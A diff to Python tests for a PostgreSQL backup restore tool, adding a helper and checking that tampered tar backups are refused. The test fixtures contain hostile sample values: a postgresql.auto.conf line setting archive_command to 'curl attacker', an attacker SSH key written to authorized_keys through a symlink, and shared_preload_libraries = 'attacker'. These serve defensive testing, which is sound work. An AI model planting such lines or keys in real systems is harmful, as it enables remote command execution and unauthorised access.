@@ -122,6 +122,14 @@ def refused(storage, backup: BackupInfo, pgdata, locations=None) -> Restorekeepe
     return caught.value
 
 
+def refused_tar(storage, pgdata, members: List[Member], listed: Optional[Dict[str, bytes]] = None,
+                **manifest_options) -> RestorekeeperError:
+    """The refusal met by a backup of the base files plus `members`, its manifest listing the base files
+    plus `listed` (what a tampered backup declares, consistent with its tar)."""
+    backup = store(storage, base_members() + members, dict(BASE_FILES, **(listed or {})), **manifest_options)
+    return refused(storage, backup, pgdata)
+
+
 def test_an_intact_backup_is_laid_down(places):
     storage, pgdata, outside = places
     backup = store(storage, base_members() + [("backup_manifest", "file", b"the tar's own copy")], BASE_FILES)
@@ -135,11 +143,9 @@ def test_a_file_written_through_a_symlink_member_is_refused(places):
     """(a) A link to another cluster's postgresql.auto.conf, then a file of that name."""
     storage, pgdata, outside = places
     evil = b"archive_command = 'curl attacker'\n"
-    listed = dict(BASE_FILES, **{"postgresql.auto.conf": evil})
-    backup = store(storage, base_members() + [
+    error = refused_tar(storage, pgdata, [
         ("postgresql.auto.conf", "symlink", str(outside / "postgresql.auto.conf").encode()),
-        ("postgresql.auto.conf", "file", evil)], listed)
-    error = refused(storage, backup, pgdata)
+        ("postgresql.auto.conf", "file", evil)], {"postgresql.auto.conf": evil})
     assert "is refused" in error.message and "is a symlink" in error.message and "postgresql.auto.conf" in error.message
     assert "tampered" in error.hint
     assert_outside_untouched(outside)
@@ -150,10 +156,8 @@ def test_files_under_a_directory_symlink_member_are_refused(places):
     """(b) A link to a directory outside, then files under it."""
     storage, pgdata, outside = places
     key = b"ssh-ed25519 AAAA attacker\n"
-    listed = dict(BASE_FILES, **{"base/keys/authorized_keys": key})
-    backup = store(storage, base_members() + [("base", "dir", b""), ("base/keys", "symlink", str(outside).encode()),
-                                              ("base/keys/authorized_keys", "file", key)], listed)
-    error = refused(storage, backup, pgdata)
+    error = refused_tar(storage, pgdata, [("base", "dir", b""), ("base/keys", "symlink", str(outside).encode()),
+                                          ("base/keys/authorized_keys", "file", key)], {"base/keys/authorized_keys": key})
     assert "base/keys" in error.message and "symlink" in error.message
     assert_outside_untouched(outside)
 
@@ -190,8 +194,7 @@ def test_a_symlink_where_postgresql_puts_one_is_not_created_from_the_tar(places)
 
 def test_a_symlink_anywhere_else_is_refused_even_when_it_points_inside(places):
     storage, pgdata, outside = places
-    backup = store(storage, base_members() + [("pg_wal", "symlink", b"global")], BASE_FILES)
-    error = refused(storage, backup, pgdata)
+    error = refused_tar(storage, pgdata, [("pg_wal", "symlink", b"global")])
     assert "'pg_wal' is a symlink" in error.message
     assert not os.path.lexists(pgdata / "pg_wal")
 
@@ -200,10 +203,8 @@ def test_a_manifest_entry_without_checksum_is_refused_before_anything_is_written
     """(c) The extra file is listed, with checksum algorithm NONE."""
     storage, pgdata, outside = places
     extra = b"shared_preload_libraries = 'attacker'\n"
-    listed = dict(BASE_FILES, **{"postgresql.auto.conf": extra})
-    backup = store(storage, base_members() + [("postgresql.auto.conf", "file", extra)], listed,
-                   algorithms={"postgresql.auto.conf": "NONE"})
-    error = refused(storage, backup, pgdata)
+    error = refused_tar(storage, pgdata, [("postgresql.auto.conf", "file", extra)], {"postgresql.auto.conf": extra},
+                        algorithms={"postgresql.auto.conf": "NONE"})
     assert "postgresql.auto.conf: the manifest gives no checksum (algorithm NONE)" in error.message
     assert not pgdata.exists() or not os.listdir(pgdata)
     assert_outside_untouched(outside)
@@ -211,8 +212,7 @@ def test_a_manifest_entry_without_checksum_is_refused_before_anything_is_written
 
 def test_a_file_missing_from_the_manifest_is_refused_before_it_is_written(places):
     storage, pgdata, outside = places
-    backup = store(storage, base_members() + [("postgresql.auto.conf", "file", b"x = 1\n")], BASE_FILES)
-    error = refused(storage, backup, pgdata)
+    error = refused_tar(storage, pgdata, [("postgresql.auto.conf", "file", b"x = 1\n")])
     assert "postgresql.auto.conf is not in the backup's manifest" in error.message
     assert not (pgdata / "postgresql.auto.conf").exists()
 
